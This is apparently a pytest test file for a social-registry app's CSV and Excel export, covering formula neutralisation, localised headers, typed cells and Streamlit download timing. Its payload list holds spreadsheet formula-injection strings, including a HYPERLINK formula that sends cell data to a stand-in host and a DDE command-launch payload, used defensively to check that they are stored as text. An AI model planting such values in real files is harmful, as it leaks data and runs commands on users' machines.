"""Exports hold data, never formulas: hostile purposes and values in CSV and Excel, header and cells."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import openpyxl
import pandas as pd
import pytest

from regsosek import access, audit, export

SCOPE = access.scope_for("bps_jatim", "bps_provinsi")
PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def files(purpose: str, names: list[str]) -> tuple[bytes, bytes]:
    frame = pd.DataFrame({"nama_kepala": names, "rt": list(range(1, len(names) + 1))})
    header = export.header_for(SCOPE, "2022-11-14", "snap", "desil 1-2", purpose)
    return export.build(frame, header, "csv", "x").data, export.build(frame, header, "xlsx", "x").data


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_purpose_stays_one_header_cell_of_text(payload):
    purpose = f"{payload}, bantuan, \"kutip\""
    csv_data, xlsx_data = files(purpose, ["Siti"])
    rows = list(csv.reader(io.StringIO(csv_data.decode(), newline="")))
    [purpose_row] = [row for row in rows if row and row[0].startswith("# Tujuan:")]
    assert len(purpose_row) == 1 and purpose_row[0] == "# Tujuan: " + export.header_text(purpose)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_data)).active
    cell = next(row[1] for row in sheet.iter_rows() if row[0].value == "Tujuan")
    assert cell.data_type == "s" and cell.value == export.header_text(purpose)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_value_is_text_in_both_files(payload):
    csv_data, xlsx_data = files("x", [payload, "Budi"])
    body = list(csv.reader(io.StringIO(csv_data.decode(), newline="")))[7:]
    assert body[0] == ["nama_kepala", "rt"]
    assert body[1] == ["'" + payload, "1"] and body[2] == ["Budi", "2"]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_data)).active
    cells = [row for row in sheet.iter_rows(min_row=10)]
    assert cells[0][0].data_type == "s" and cells[0][0].value.strip() == payload.strip()  # XML reads CR as LF
    assert cells[0][1].data_type == "n" and cells[0][1].value == 1
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_numbers_and_ordinary_text_are_left_as_they_are():
    assert export.neutral(-5) == -5 and export.neutral("Siti - Rahayu") == "Siti - Rahayu"
    assert export.neutral("-") == "'-"


def test_terms_accepted_in_an_earlier_version_must_be_accepted_again(data_dir):
    assert not export.terms_accepted("csr_madura")
    export.accept_terms("csr_madura", "2021-0")
    assert not export.terms_accepted("csr_madura")
    export.accept_terms("csr_madura", export.TERMS_VERSION)
    assert export.terms_accepted("csr_madura")


def _file(fmt: str, lang: str) -> bytes:
    frame = pd.DataFrame({"Wilayah": ["Sampang", "Bangkalan"], "Keluarga": pd.array([12345, None], dtype="Int64"),
                          "Persen": [96.54, 80.0], "Tanggal": [date(2022, 11, 14), None]})
    header = export.header_for(SCOPE, "2022-11-14", "2022-11-14_abc", "desil 1-2; kab=3527", "Bantuan",
                               lang=lang, shown_filters="Desil 1–2 · Kab. Sampang")
    return export.build(frame, header, fmt, "x").data


@pytest.mark.parametrize("lang,labels,role,as_of", [
    ("id", ["Pengguna", "Peran", "Dibuat", "Data per", "Snapshot", "Filter", "Tujuan"], "BPS Provinsi", "14 Nov 2022"),
    ("en", ["User", "Role", "Created", "Data as of", "Snapshot", "Filters", "Purpose"], "BPS Province", "14 Nov 2022"),
])
def test_the_header_block_speaks_the_users_language_with_the_time_in_wib(lang, labels, role, as_of):
    rows = list(csv.reader(io.StringIO(_file("csv", lang).decode(), newline="")))
    header = dict(row[0][2:].split(": ", 1) for row in rows[:7])
    assert list(header) == labels
    assert header[labels[1]] == role and header[labels[3]] == as_of
    assert header[labels[2]].endswith(" WIB") and header[labels[5]] == "Desil 1–2 · Kab. Sampang"
    created = export.header_for(SCOPE, "2022-11-14", "s", "", "").created
    assert datetime.fromisoformat(created).utcoffset() == timedelta(hours=7)


def test_csv_is_machine_readable_comma_separated_with_iso_dates_and_plain_numbers():
    frame = pd.read_csv(io.BytesIO(_file("csv", "id")), comment="#")
    assert list(frame.columns) == ["Wilayah", "Keluarga", "Persen", "Tanggal"]
    assert frame["Keluarga"].tolist()[0] == 12345 and pd.isna(frame["Keluarga"].tolist()[1])
    assert frame["Persen"].tolist() == [96.54, 80.0]
    assert frame["Tanggal"].tolist()[0] == "2022-11-14" and pd.isna(frame["Tanggal"].tolist()[1])


def test_excel_cells_are_real_numbers_and_dates_with_formats():
    sheet = openpyxl.load_workbook(io.BytesIO(_file("xlsx", "en"))).active
    [heading] = [row for row in sheet.iter_rows() if row[0].value == "Wilayah"]
    assert [c.value for c in heading] == ["Wilayah", "Keluarga", "Persen", "Tanggal"]
    first = [c for c in sheet[heading[0].row + 1]]
    assert first[1].data_type == "n" and first[1].value == 12345 and first[1].number_format == "#,##0"
    assert first[2].data_type == "n" and first[2].value == 96.54 and first[2].number_format == "#,##0.0"
    assert first[3].is_date and first[3].value.date() == date(2022, 11, 14) and first[3].number_format == "d mmm yyyy"
    assert sheet[heading[0].row + 2][1].value is None


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def media_files():
    """Streamlit's real media storage and file manager, with a clock the test moves."""
    from streamlit.runtime.media_file_manager import MediaFileManager
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    storage = MemoryMediaFileStorage("/media")
    return storage, MediaFileManager(storage), Clock()


def deferred_download(manager, rows: bytes) -> str:
    """What a click on a download button does on the server: run the callable, publish its bytes, return the
    file's name under /media."""
    file_id = manager.add_deferred(lambda: rows, "text/csv", "main.targets.download", file_name="daftar.csv")
    return manager.execute_deferred(file_id).rsplit("/", 1)[1]


def other_sessions_finish_script_runs(manager, runs: int) -> None:
    for _ in range(runs):
        manager.clear_session_refs("another-session")
        manager.remove_orphaned_files()


@pytest.mark.parametrize("held", [False, True])
def test_a_file_built_on_the_click_is_still_served_after_other_sessions_clean_up(held):
    """Streamlit publishes the file of a deferred download referenced by no session and drops it after any two
    script runs end; under load the browser asks for it later than that (the 20-session load run lost every
    download). Held, it is served for DOWNLOAD_HOLD_SECONDS and goes at the first add or delete after."""
    from streamlit.runtime.media_file_storage import MediaFileStorageError

    storage, manager, clock = media_files()
    if held:
        export.hold_files(storage, seconds=120, clock=clock)
    name = deferred_download(manager, b"nomor,nama\r\n1,a\r\n")
    clock.now += 30
    other_sessions_finish_script_runs(manager, 3)
    if not held:
        with pytest.raises(MediaFileStorageError):
            storage.get_file(name)
        return
    assert storage.get_file(name).content == b"nomor,nama\r\n1,a\r\n"
    clock.now += 89.5  # 119.5 s after it was published
    other_sessions_finish_script_runs(manager, 2)
    assert storage.get_file(name).content == b"nomor,nama\r\n1,a\r\n"
    clock.now += 0.5
    later = deferred_download(manager, b"nomor,nama\r\n2,b\r\n")
    with pytest.raises(MediaFileStorageError):
        storage.get_file(name)
    assert storage.get_file(later).content == b"nomor,nama\r\n2,b\r\n"
    export.hold_files(storage, seconds=1, clock=clock)  # installed once: a second call changes nothing
    assert storage.held_for == 120


def test_a_held_file_published_again_is_kept_as_long_as_it_is_referenced():
    """The same bytes published again (a second click, or the same image drawn again) are no longer marked: the
    hold never deletes a file a session holds."""
    from streamlit.runtime.media_file_storage import MediaFileKind
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    storage, clock = MemoryMediaFileStorage("/media"), Clock()
    export.hold_files(storage, seconds=120, clock=clock)
    file_id = storage.load_and_get_id(b"x", "text/csv", MediaFileKind.DOWNLOADABLE, "a.csv")
    storage.delete_file(file_id)  # marked, kept
    clock.now += 60
    assert storage.load_and_get_id(b"x", "text/csv", MediaFileKind.DOWNLOADABLE, "a.csv") == file_id
    clock.now += 100  # 160 s after the first add, 100 after the second
    storage.load_and_get_id(b"y", "text/csv", MediaFileKind.DOWNLOADABLE, "b.csv")
    assert storage.get_file(f"{file_id}.csv").content == b"x"
    clock.now += 20
    storage.delete_file(file_id)  # 120 s after the second add: goes now
    storage.load_and_get_id(b"z", "text/csv", MediaFileKind.DOWNLOADABLE, "c.csv")
    assert file_id not in storage._files_by_id


def button_drawn(manager, rows: bytes, where: str = "main.targets.download") -> str:
    """A script run drawing a download button: Streamlit revokes the button's callable of the run before
    (the same place on the page) and registers the new one; the browser is given its id."""
    manager.remove_deferred(where)
    return manager.add_deferred(lambda: rows, "text/csv", where, file_name="daftar.csv")


@pytest.mark.parametrize("held", [False, True])
def test_a_click_sent_just_before_its_own_session_reruns_still_gets_its_file(held):
    """The browser sends the click with the id of the button it shows; a rerun of the same session (a text box
    left for the button commits and reruns) revokes that id before the click is served: "Deferred file ... not
    found" in the 20-session load run. Held, the click builds the file of the button clicked, for
    DOWNLOAD_HOLD_SECONDS; then the revoked callable goes at the next clean-up."""
    from streamlit.runtime.media_file_storage import MediaFileStorageError

    storage, manager, clock = media_files()
    if held:
        export.hold_clicks(manager, seconds=120, clock=clock)
    clicked = button_drawn(manager, b"nomor\r\n1\r\n")
    clock.now += 5
    current = button_drawn(manager, b"nomor\r\n2\r\n")  # the rerun, before the click is served
    other_sessions_finish_script_runs(manager, 2)
    if not held:
        with pytest.raises(MediaFileStorageError, match="not found"):
            manager.execute_deferred(clicked)
        return
    name = manager.execute_deferred(clicked).rsplit("/", 1)[1]
    assert storage.get_file(name).content == b"nomor\r\n1\r\n"
    clock.now += 114.5  # 119.5 s after the clicked button was drawn
    other_sessions_finish_script_runs(manager, 1)
    manager.execute_deferred(clicked)
    clock.now += 0.5
    other_sessions_finish_script_runs(manager, 1)
    with pytest.raises(MediaFileStorageError, match="not found"):
        manager.execute_deferred(clicked)
    # The button on the page keeps working however long it is shown: only revoked callables go, also when
    # another button is drawn again and its old callable goes.
    clock.now += 1000
    button_drawn(manager, b"x", "main.officers.download")
    button_drawn(manager, b"y", "main.officers.download")
    clock.now += 200
    button_drawn(manager, b"z", "main.officers.download")
    other_sessions_finish_script_runs(manager, 2)
    current_name = manager.execute_deferred(current).rsplit("/", 1)[1]
    assert storage.get_file(current_name).content == b"nomor\r\n2\r\n"
    export.hold_clicks(manager, seconds=1, clock=clock)  # installed once: a second call changes nothing
    assert manager.clicks_held_for == 120


def test_a_download_builds_nothing_once_the_sign_in_that_drew_it_has_ended(data_dir):
    """A held button's click is still bound to the sign-in of the run that drew it: after sign-out, no file
    and no audit record."""
    from regsosek import auth

    login = auth.start_login("bps_jatim")
    header = export.header_for(SCOPE, "2022-11-14", "2022-11-14_abc", "desil 1-2", "Bantuan")
    built: list[bytes] = []

    def build() -> export.Download:
        download = export.build(pd.DataFrame({"nomor": [1]}), header, "csv", "daftar")
        built.append(download.data)
        return download

    delivery = export.Delivery(export.Pending(build, "daftar.csv", "text/csv"), "targets", login=login)
    assert delivery() == built[0]
    assert len(audit.read_log(action="download")) == 1
    auth.end_login(login)
    with pytest.raises(PermissionError):
        delivery()
    assert len(built) == 1 and len(audit.read_log(action="download")) == 1
